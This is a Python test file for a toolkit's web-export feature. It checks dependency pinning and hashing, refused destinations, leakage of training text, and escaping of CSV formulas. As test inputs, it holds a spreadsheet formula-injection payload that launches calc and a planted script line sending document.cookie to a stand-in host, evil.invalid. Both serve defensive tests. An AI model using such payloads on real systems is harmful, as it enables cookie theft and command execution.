"""`tk export --web`, the export side: where onnxruntime-web comes from (pinned, hashed, a planted copy
refused), destinations that are refused, and what a public page must not carry (training text, cells
that start a spreadsheet formula). The browser tests are in tests/test_web.py."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import ROOT
from tests.test_web import ort_web  # noqa: F401 (a fixture)
from tests.web_helpers import spreadsheet_cell

# ---- exporting: where onnxruntime-web comes from, bad destinations --------------------------


def test_pinned_onnxruntime_web_is_the_edge_example_pin():
    from exporters.web import ORT_WEB_INTEGRITY, ORT_WEB_VERSION

    edge = ROOT / "examples" / "edge" / "node"
    assert json.loads((edge / "package.json").read_text())["dependencies"]["onnxruntime-web"] == ORT_WEB_VERSION
    lock = json.loads((edge / "package-lock.json").read_text())["packages"]["node_modules/onnxruntime-web"]
    assert (lock["version"], lock["integrity"]) == (ORT_WEB_VERSION, ORT_WEB_INTEGRITY)


@pytest.mark.parametrize(
    "package, message",
    [
        (None, "is not an onnxruntime-web package folder"),
        ({"name": "onnxruntime-web", "version": "1.17.0"}, "holds onnxruntime-web 1.17.0, tk needs 1.30.0"),
        ({"name": "onnxruntime-web", "version": "1.30.0"}, "dist lacks ort.wasm.min.js"),
    ],
)
def test_a_wrong_onnxruntime_web_folder_is_one_clear_line(tmp_path, monkeypatch, package, message):
    from exporters import web
    from toolkit.errors import TkError

    if package is not None:
        (tmp_path / "package.json").write_text(json.dumps(package))
    monkeypatch.setenv("TK_ONNXRUNTIME_WEB", str(tmp_path))
    with pytest.raises(TkError, match="TK_ONNXRUNTIME_WEB") as info:
        web.find_ort_web()
    assert message in str(info.value) and "\n" not in str(info.value)


def test_web_into_a_file_is_refused(churn_model, tmp_path):
    target = tmp_path / "site"
    target.write_text("not a folder")
    proc = subprocess.run(
        [sys.executable, "-m", "toolkit.cli.main", "export", str(churn_model[1]), "--web", str(target)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
    )
    assert proc.returncode == 2 and f"--web {target}: is a file; give a folder" in proc.stderr, proc.stderr


def test_web_into_a_model_directory_is_refused(churn_model, tmp_path):
    """The site's model.onnx carries extra metadata: written into a model directory it would break its manifest."""
    import shutil

    model_dir = tmp_path / "model"
    shutil.copytree(churn_model[1], model_dir)
    before = (model_dir / "model.onnx").read_bytes()
    proc = subprocess.run(
        [sys.executable, "-m", "toolkit.cli.main", "export", str(model_dir), "--web", str(model_dir)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
    )
    assert proc.returncode == 2 and "is a model directory" in proc.stderr, proc.stderr
    assert (model_dir / "model.onnx").read_bytes() == before
    assert not (model_dir / "index.html").exists()


def test_web_inside_a_model_directory_is_refused(churn_model, tmp_path):
    import shutil

    model_dir = tmp_path / "model"
    shutil.copytree(churn_model[1], model_dir)
    site = model_dir / "site"
    proc = subprocess.run(
        [sys.executable, "-m", "toolkit.cli.main", "export", str(model_dir), "--web", str(site)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
    )
    assert proc.returncode == 2 and "is inside the model directory" in proc.stderr, proc.stderr
    assert not site.exists()


# ---- issue 16: what a public page must not carry ---------------------------------------------


def test_text_placeholder_publishes_no_training_text(tmp_path):
    """The form of a text model: no field carries any text of the training data."""
    import pandas as pd

    from exporters import web
    from toolkit import train
    from toolkit.common import log

    log.quiet = True
    secrets = [f"patient {i} was told the diagnosis privately" for i in range(40)]
    frame = pd.DataFrame({"note": secrets, "urgent": ["yes", "no"] * 20})
    cfg = {
        "input_features": [{"name": "note", "type": "text"}],
        "output_features": [{"name": "urgent", "type": "category"}],
        "trainer": {"epochs": 1},
    }
    model = train(cfg, frame, output=tmp_path / "model")
    form = json.dumps(web.form_fields(model, frame))
    assert not any(word in form for word in ("patient", "diagnosis", "privately")), form
    (field,) = web.form_fields(model, frame)
    assert field["placeholder"] == web.TEXT_PLACEHOLDER


def test_csv_cells_that_start_a_formula_are_prefixed():
    """csv.js, the page's CSV writer, run in Node: formulas defused, numbers and plain text kept."""
    node = shutil.which("node")
    if node is None:
        pytest.skip("node not found")
    cells = [
        "=1+2",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=x",
        "-0.25",
        "+3",
        "1e-5",
        "plain",
        "a,b",
        'say "hi"',
        "",
        "=",
        "-",
    ]
    script = (
        "const vm = require('vm'), fs = require('fs'); const ctx = {}; vm.createContext(ctx);"
        f"vm.runInContext(fs.readFileSync({json.dumps(str(ROOT / 'exporters' / 'web_page' / 'csv.js'))}, 'utf8'), ctx);"
        f"console.log(JSON.stringify({json.dumps(cells)}.map(ctx.csvField).concat([ctx.csvField(-1.5), ctx.csvField(null)])));"
    )
    proc = subprocess.run([node, "-e", script], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout) == [
        "'=1+2",
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\t=x",
        "-0.25",
        "+3",
        "1e-5",
        "plain",
        '"a,b"',
        '"say ""hi"""',
        "",
        "'=",
        "'-",
        "-1.5",
        "",
    ]
    assert all(
        spreadsheet_cell(c) == (c if not o.startswith("'") else o)
        for c, o in zip(cells[:10], json.loads(proc.stdout)[:10])
        if '"' not in o
    )


def _plant(folder: Path, same_sizes: bool) -> Path:
    """A fake onnxruntime-web 1.30.0 package: right version string, wrong bytes."""
    from exporters.web import ORT_WEB_FILES

    package = folder / "node_modules" / "onnxruntime-web"
    (package / "dist").mkdir(parents=True)
    (package / "package.json").write_text(json.dumps({"name": "onnxruntime-web", "version": "1.30.0"}))
    for name, (size, _) in ORT_WEB_FILES.items():
        evil = b"fetch('https://evil.invalid/?'+document.cookie);//"
        (package / "dist" / name).write_bytes((evil * (size // len(evil) + 1))[:size] if same_sizes else evil)
    return package


@pytest.mark.parametrize("same_sizes, message", [(True, "sha256 differs"), (False, "not the file")])
def test_a_planted_onnxruntime_web_is_refused_by_name(tmp_path, monkeypatch, same_sizes, message):
    from exporters import web
    from toolkit.errors import TkError

    monkeypatch.setenv("TK_ONNXRUNTIME_WEB", str(_plant(tmp_path, same_sizes)))
    with pytest.raises(TkError, match="TK_ONNXRUNTIME_WEB") as info:
        web.find_ort_web()
    assert message in str(info.value) and "\n" not in str(info.value)


def test_a_planted_node_modules_copy_never_reaches_the_site(churn_model, ort_web, tmp_path):
    """A copy in node_modules of the working directory, right version string, planted bytes: skipped."""
    import hashlib

    from exporters.web import ORT_WEB_FILES, ORT_WEB_VERSION

    work = tmp_path / "work"
    _plant(work, same_sizes=True)
    cache = tmp_path / "cache" / "tk" / f"onnxruntime-web-{ORT_WEB_VERSION}"
    cache.mkdir(parents=True)
    os.symlink(ort_web, cache / "package")  # the genuine package, where the cache would hold it
    env = {k: v for k, v in os.environ.items() if k != "TK_ONNXRUNTIME_WEB"}
    env |= {"XDG_CACHE_HOME": str(tmp_path / "cache"), "PYTHONPATH": str(ROOT)}
    site = tmp_path / "site"
    proc = subprocess.run(
        [sys.executable, "-m", "toolkit.cli.main", "export", str(churn_model[1]), "--web", str(site)],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=work,
        env=env,
    )
    assert proc.returncode == 0, proc.stderr
    assert "skipping" in proc.stderr and "node_modules/onnxruntime-web" in proc.stderr, proc.stderr
    for name, (size, digest) in ORT_WEB_FILES.items():
        data = (site / "ort" / name).read_bytes()
        assert len(data) == size and hashlib.sha256(data).hexdigest() == digest, name
